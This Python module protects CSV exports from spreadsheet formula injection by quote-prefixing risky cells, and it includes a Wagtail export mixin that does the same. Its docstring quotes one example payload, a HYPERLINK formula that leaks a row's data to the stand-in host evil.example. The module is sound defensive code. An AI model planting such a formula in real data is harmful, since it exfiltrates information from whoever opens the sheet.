"""Spreadsheet-safe CSV cells: a cell a reader typed can never run as a formula.

Excel, LibreOffice and Google Sheets treat a cell beginning with `=`, `+`, `-` or `@` (and,
in some versions, a tab or carriage return before one) as a formula, so a join-form name
`=HYPERLINK("https://evil.example?"&A2, "Open")` in a staff export becomes a live link that
leaks the row. OWASP's advice: prefix such cells with a single quote, which the spreadsheet
shows as text. Every CSV this project writes goes through `neutralise` (Wagtail's xlsx export
already stores formulas as text).
"""

from __future__ import annotations

import csv
from collections.abc import Iterable
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def neutralise(value: Any) -> Any:
    """The value, with a leading `'` if it is text a spreadsheet would read as a formula.
    Numbers, dates and None pass unchanged (a negative number is data, not a formula)."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def safe_row(row: Iterable[Any]) -> list[Any]:
    return [neutralise(value) for value in row]


class SafeCsvWriter:
    """`csv.writer` whose rows are neutralised; use instead of csv.writer for any export."""

    def __init__(self, stream: Any, **kwargs: Any) -> None:
        self._writer = csv.writer(stream, **kwargs)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow(safe_row(row))

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


class FormulaSafeExportMixin:
    """For Wagtail views with `list_export` (ModelViewSet index views, reports): neutralises
    every CSV cell, headings included. Put it before the Wagtail view in the bases."""

    def write_csv_row(self, writer: Any, row_dict: dict[str, Any]) -> Any:
        return writer.writerow(
            {
                field: neutralise(self.preprocess_field_value(field, value, "csv"))  # type: ignore[attr-defined]
                for field, value in row_dict.items()
            }
        )

    def get_heading(self, queryset: Any, field: str) -> Any:
        return neutralise(super().get_heading(queryset, field))  # type: ignore[misc]
